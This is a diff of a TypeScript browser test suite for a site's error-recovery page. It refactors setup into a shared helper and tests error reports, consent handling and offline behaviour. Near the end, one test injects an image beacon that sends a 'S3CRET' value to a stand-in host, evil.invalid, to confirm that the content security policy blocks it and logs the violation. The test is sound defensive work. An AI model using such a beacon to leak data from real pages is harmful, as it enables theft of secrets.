@@ -1,22 +1,14 @@
 /** A page that breaks in the browser: what the reader sees, what leaves, and what stands. Spec 1 §2, §4; decision 26. */
-import { expect, type Browser, type Page } from '@playwright/test';
-import { afterAll, beforeAll, describe, expect as check, it } from 'vitest';
-import { axe, launchBrowser, open, overflow, visit, type Visit } from '../support/browser.ts';
-import { startStack, testNow, type Stack } from '../support/stack.ts';
+import { expect, type Page } from '@playwright/test';
+import { describe, expect as check, it } from 'vitest';
+import { axe, open, overflow, visit, type Visit } from '../support/browser.ts';
+import { testNow } from '../support/stack.ts';
+import { withBrowser } from '../support/withBrowser.ts';
 
 const LITERAL = 'This error has been reported to ODB. We aplogize for the inconvenience.';
 const PATH = '/api/error-recovery';
 
-let stack: Stack;
-let browser: Browser;
-beforeAll(async () => {
-  stack = await startStack();
-  browser = await launchBrowser();
-});
-afterAll(async () => {
-  await browser?.close();
-  await stack?.stop();
-});
+const on = withBrowser();
 
 interface Broken extends Visit {
   /** The reports that left. */
@@ -25,7 +17,7 @@ interface Broken extends Visit {
 
 /** A reader on a reading, the one before which breaks. */
 async function reader(consent: boolean | null, options: Parameters<typeof visit>[1] = {}): Promise<Broken> {
-  const visitor = await visit(browser, { unasked: consent !== null, ...options });
+  const visitor = await visit(on.browser, { unasked: consent !== null, ...options });
   const { page, context } = visitor;
   if (consent !== null) {
     await context.addInitScript(
@@ -55,7 +47,7 @@ const breakReadings = (page: Page) =>
   });
 
 /** Goes to the reading that breaks. */
-async function meet(visitor: Broken, at = stack.url): Promise<void> {
+async function meet(visitor: Broken, at = on.stack.url): Promise<void> {
   await open(visitor, `${at}/2026/11/20`);
   await breakReadings(visitor.page);
   await visitor.page.locator('a[href$="/2026/11/19"], a[href$="/2026/11/19/"]').first().click();
@@ -84,7 +76,7 @@ describe('a page that breaks', () => {
     await expect(page.getByRole('button', { name: 'Click to Reload' })).toBeFocused();
     const errorId = await page.getByText(/^ODB-[0-9a-f]{12}$/).textContent();
     check(puts).toMatchObject([{ errorId }]);
-    const kept = await stack.program.services.local
+    const kept = await on.stack.program.services.local
       .get('error-recovery')!
       .db.rows('select error_id from error_recovery.report where error_id = $1', [errorId]);
     check(kept).toEqual([{ error_id: errorId }]);
@@ -106,7 +98,7 @@ describe('a page that breaks', () => {
     await meet(visitor);
     await expect(page.getByRole('alert')).toContainText(LITERAL);
     await expect(page.getByRole('button', { name: 'Send a report' })).toHaveCount(0);
-    const { host } = new URL(stack.url);
+    const { host } = new URL(on.stack.url);
     check(puts).toHaveLength(1);
     check(puts[0]).toMatchObject({
       errorId: await page.getByText(/^ODB-[0-9a-f]{12}$/).textContent(),
@@ -212,7 +204,7 @@ describe('a frame that breaks', () => {
       const visitor = await reader(null, { viewport: { width, height: 800 } });
       const { page } = visitor;
       await breakFrame(page);
-      await page.goto(`${stack.url}/2026/11/20?override=${site}`);
+      await page.goto(`${on.stack.url}/2026/11/20?override=${site}`);
       await expect(page.getByRole('alert')).toBeVisible();
       await expect(page.getByRole('banner')).toHaveCount(0);
       await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toHaveText(heading);
@@ -235,7 +227,7 @@ describe('a frame that breaks', () => {
     await breakFrame(page);
     await context.route(`**${PATH}`, (route) => route.abort('internetdisconnected'));
     await context.route(/assets\/report-/, (route) => route.abort('internetdisconnected'));
-    await page.goto(`${stack.url}/2026/11/20`);
+    await page.goto(`${on.stack.url}/2026/11/20`);
     await expect(page.getByRole('alert')).toContainText('could not be sent');
     await context.setOffline(true);
     await page.getByRole('button', { name: 'Send a report' }).click();
@@ -252,7 +244,7 @@ describe('an error outside of any page', () => {
   ])('with consent %s leads to %i reports, and the page stands', async (consent, count) => {
     const visitor = await reader(consent);
     const { page, puts } = visitor;
-    await open(visitor, `${stack.url}/2026/11/20`);
+    await open(visitor, `${on.stack.url}/2026/11/20`);
     for (let times = 0; times < 3; times += 1)
       await page.evaluate(() => void setTimeout(() => void Promise.reject(new Error('outside'))));
     await expect.poll(() => puts.length).toBe(count);
@@ -268,13 +260,13 @@ describe('an error outside of any page', () => {
 it('a script the policy stops is told to the site', async () => {
   const visitor = await reader(null);
   const { page } = visitor;
-  await open(visitor, `${stack.url}/2026/11/20`);
+  await open(visitor, `${on.stack.url}/2026/11/20`);
   await page.evaluate(() => {
     const image = new Image();
     image.src = 'http://evil.invalid/x.png?S3CRET';
     document.body.append(image);
   });
-  const { db } = stack.program.services.local.get('error-recovery')!;
+  const { db } = on.stack.program.services.local.get('error-recovery')!;
   await expect
     .poll(() => db.rows('select day::text, directive, blocked, page, count from error_recovery.violation'))
     .toEqual([
@@ -282,7 +274,7 @@ it('a script the policy stops is told to the site', async () => {
         day: testNow().toISOString().slice(0, 10),
         directive: 'img-src',
         blocked: 'http://evil.invalid/x.png',
-        page: `${stack.url}/2026/11/20`,
+        page: `${on.stack.url}/2026/11/20`,
         count: 1,
       },
     ]);
